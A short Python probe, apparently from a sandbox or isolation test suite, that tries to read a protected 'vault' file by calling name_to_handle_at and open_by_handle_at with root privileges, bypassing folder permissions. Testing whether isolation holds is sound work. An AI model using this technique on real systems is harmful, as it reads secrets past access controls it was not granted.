"""Wants a file by its handle, past its folder (open_by_handle_at(2)). Success: its bytes come back. Plain: needs to be root."""

import ctypes
import os
import struct

from outside import VAULT_KEY, attempt, call


def method(problem):
    def by_handle():
        handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
        mount = ctypes.c_int()
        call("name_to_handle_at", -100, VAULT_KEY.encode(), handle, ctypes.byref(mount), 0)
        return os.read(call("open_by_handle_at", os.open("/", os.O_RDONLY), handle, os.O_RDONLY), 200)

    return attempt(problem, by_handle)
